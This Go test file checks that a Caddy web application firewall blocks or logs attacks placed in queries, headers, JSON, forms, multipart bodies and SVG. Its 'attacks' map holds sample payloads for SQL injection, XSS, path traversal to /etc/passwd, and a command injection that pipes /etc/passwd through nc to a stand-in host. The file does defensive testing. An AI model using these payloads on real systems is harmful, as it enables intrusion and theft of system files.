package waf

import (
	"bytes"
	"context"
	"encoding/json"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/caddyserver/caddy/v2"
	"github.com/caddyserver/caddy/v2/modules/caddyhttp"
	"go.uber.org/zap"
)

// policy is the default policy in the given mode: "On" or "DetectionOnly".
func policy(t testing.TB, engine string) string {
	t.Helper()
	text, err := os.ReadFile("testdata/default-policy.conf")
	if err != nil {
		t.Fatal(err)
	}
	return strings.Replace(string(text), "SecRuleEngine On", "SecRuleEngine "+engine, 1)
}

// kept engines spare every test the compilation of the whole CRS, which takes seconds under the race detector.
var kept = map[policyKey]bool{}

func TestMain(m *testing.M) {
	text, err := os.ReadFile("testdata/default-policy.conf")
	if err != nil {
		panic(err)
	}
	for _, mode := range []string{"On", "DetectionOnly"} {
		key, _, err := loadEngine(strings.Replace(string(text), "SecRuleEngine On", "SecRuleEngine "+mode, 1))
		if err != nil {
			panic(err)
		}
		kept[key] = true
	}
	os.Exit(m.Run())
}

// edge is a real HTTP server with the handler in front of an upstream that answers with the body it received.
type edge struct {
	*httptest.Server
	h   *Handler
	log string
}

// setup is what a test may change.
type setup struct {
	Policy
	Host     string
	Own      []Exclusion
	GRPC     bool
	AuditLog string
}

type option func(*setup)

// attached provisions an app with one policy, and a handler on it.
func attached(t testing.TB, s *setup) (*App, *Handler, error) {
	t.Helper()
	app := &App{AuditLog: s.AuditLog, Policies: map[string]*Policy{"default": &s.Policy}}
	if s.Host == "" {
		s.Host = "photos.home.example"
	}
	h := &Handler{Policy: "default", HostID: s.Host, GRPC: s.GRPC, Exclusions: s.Own, log: zap.NewNop()}
	ctx, cancel := caddy.NewContext(caddy.Context{Context: context.Background()})
	t.Cleanup(cancel)
	err := app.Provision(ctx)
	if err == nil {
		err = h.attach(app)
	}
	return app, h, err
}

func serve(t testing.TB, engine string, upstream http.HandlerFunc, options ...option) *edge {
	t.Helper()
	s := &setup{Policy: Policy{Rules: policy(t, engine)}, AuditLog: filepath.Join(t.TempDir(), "waf.log")}
	for _, o := range options {
		o(s)
	}
	app, h, err := attached(t, s)
	if err != nil {
		t.Fatal(err)
	}
	if upstream == nil {
		upstream = func(w http.ResponseWriter, r *http.Request) {
			b, err := io.ReadAll(r.Body) // whole, before the answer: HTTP/1.1 is no echo
			if err != nil {
				panic(http.ErrAbortHandler)
			}
			_, _ = w.Write(b)
		}
	}
	e := &edge{h: h, log: s.AuditLog}
	e.Server = httptest.NewServer(through(h, upstream))
	t.Cleanup(func() {
		e.Close()
		_ = h.Cleanup()
		_ = app.Cleanup()
	})
	return e
}

func newServer(t testing.TB, h *Handler) *httptest.Server {
	s := httptest.NewServer(through(h, func(http.ResponseWriter, *http.Request) {}))
	t.Cleanup(s.Close)
	return s
}

// through gives a request the variables that Caddy's server would give it.
func through(h *Handler, upstream http.HandlerFunc) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		repl := caddy.NewReplacer()
		repl.Set("http.request.uuid", "7f6f1f6e")
		ctx := context.WithValue(r.Context(), caddyhttp.VarsCtxKey, map[string]any{caddyhttp.ClientIPVarKey: "203.0.113.9"})
		ctx = context.WithValue(ctx, caddy.ReplacerCtxKey, repl)
		err := h.ServeHTTP(w, r.WithContext(ctx), caddyhttp.HandlerFunc(func(w http.ResponseWriter, r *http.Request) error {
			upstream(w, r)
			return nil
		}))
		if err != nil {
			var refused caddyhttp.HandlerError
			if refused, _ = err.(caddyhttp.HandlerError); refused.StatusCode == 0 {
				refused.StatusCode = http.StatusBadGateway
			}
			http.Error(w, err.Error(), refused.StatusCode)
		}
	})
}

// events waits for n lines of the event log.
func (e *edge) events(t testing.TB, n int) []event {
	t.Helper()
	for deadline := time.Now().Add(time.Minute); ; time.Sleep(10 * time.Millisecond) {
		raw, _ := os.ReadFile(e.log)
		lines := bytes.Split(bytes.TrimSpace(raw), []byte("\n"))
		if len(raw) > 0 && len(lines) >= n {
			events := make([]event, len(lines))
			for i, line := range lines {
				if err := json.Unmarshal(line, &events[i]); err != nil {
					t.Fatalf("line %d of the event log: %v: %s", i, err, line)
				}
			}
			return events
		}
		if time.Now().After(deadline) {
			t.Fatalf("the event log has fewer than %d lines: %s", n, raw)
		}
	}
}

func (e *edge) send(t testing.TB, method, target, contentType string, body io.Reader, headers ...string) *http.Response {
	t.Helper()
	req, err := http.NewRequest(method, e.URL+target, body)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("User-Agent", "Mozilla/5.0")
	req.Header.Set("Accept", "*/*")
	req.Host = "photos.home.example"
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	resp, err := e.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	resp.Body = io.NopCloser(bytes.NewReader(b))
	return resp
}

// chunked hides a body's length, so that net/http sends it in chunks.
func chunked(s string) io.Reader { return io.MultiReader(strings.NewReader(s)) }

var attacks = map[string]string{
	"SQLi": "1' UNION SELECT username, password FROM users-- -",
	"XSS":  "<script>alert(document.cookie)</script>",
	"LFI":  "../../../../etc/passwd",
	"RCE":  "; cat /etc/passwd | nc 198.51.100.1 4444",
}

// places where an attack may stand.
var places = map[string]func(t *testing.T, e *edge, attack string) *http.Response{
	"query": func(t *testing.T, e *edge, attack string) *http.Response {
		return e.send(t, "GET", "/search?q="+url.QueryEscape(attack), "", nil)
	},
	"header": func(t *testing.T, e *edge, attack string) *http.Response {
		return e.send(t, "GET", "/", "", nil, "Referer", "https://photos.home.example/?x="+attack, "User-Agent", "x "+attack,
			"Cookie", "lang="+url.QueryEscape(attack))
	},
	"JSON": func(t *testing.T, e *edge, attack string) *http.Response {
		b, _ := json.Marshal(map[string]any{"user": map[string]string{"name": attack}})
		return e.send(t, "POST", "/api", "application/json", bytes.NewReader(b))
	},
	"form": func(t *testing.T, e *edge, attack string) *http.Response {
		return e.send(t, "POST", "/", "application/x-www-form-urlencoded", strings.NewReader("q="+url.QueryEscape(attack)))
	},
	"chunked form": func(t *testing.T, e *edge, attack string) *http.Response {
		return e.send(t, "POST", "/", "application/x-www-form-urlencoded", chunked("q="+url.QueryEscape(attack)))
	},
	"multipart field": func(t *testing.T, e *edge, attack string) *http.Response {
		body, contentType := form(t, part{name: "q", value: attack})
		return e.send(t, "POST", "/", contentType, body)
	},
	// Rack parses this as a form, with or without names that make a part a field.
	"multipart/related field": func(t *testing.T, e *edge, attack string) *http.Response {
		body, contentType := form(t, part{name: "q", value: attack})
		return e.send(t, "POST", "/", strings.Replace(contentType, "form-data", "related", 1), body)
	},
	"SVG": func(t *testing.T, e *edge, attack string) *http.Response {
		picture := `<svg xmlns="http://www.w3.org/2000/svg"><title>` + html.EscapeString(attack) + `</title></svg>`
		return e.send(t, "PUT", "/", "image/svg+xml", strings.NewReader(picture))
	},
	"body without a type": func(t *testing.T, e *edge, attack string) *http.Response {
		return e.send(t, "POST", "/", "", strings.NewReader("q="+url.QueryEscape(attack)))
	},
	"text": func(t *testing.T, e *edge, attack string) *http.Response {
		return e.send(t, "POST", "/", "text/plain", strings.NewReader("q="+url.QueryEscape(attack)))
	},
}

// ING-2
func TestBlockRefusesAttacksWhereverTheyStand(t *testing.T) {
	e := serve(t, "On", nil)
	for kind, attack := range attacks {
		for place, send := range places {
			t.Run(kind+" in "+place, func(t *testing.T) {
				if got := send(t, e, attack).StatusCode; got != http.StatusForbidden {
					t.Errorf("answered %d, want 403", got)
				}
			})
		}
	}
}

// ING-1
func TestDetectPassesAttacksAndLogsThem(t *testing.T) {
	e := serve(t, "DetectionOnly", nil)
	n := 0
	for kind, attack := range attacks {
		for place, send := range places {
			if got := send(t, e, attack).StatusCode; got != http.StatusOK {
				t.Errorf("%s in %s: answered %d, want 200", kind, place, got)
			}
			n++
		}
	}
	for _, ev := range e.events(t, n) {
		if !ev.WouldBlock || ev.BlockedBy != 0 || ev.Status != 0 || ev.Mode != "detect" || len(ev.Rules) == 0 {
			t.Errorf("event does not say that block would have refused: %+v", ev)
		}
	}
}
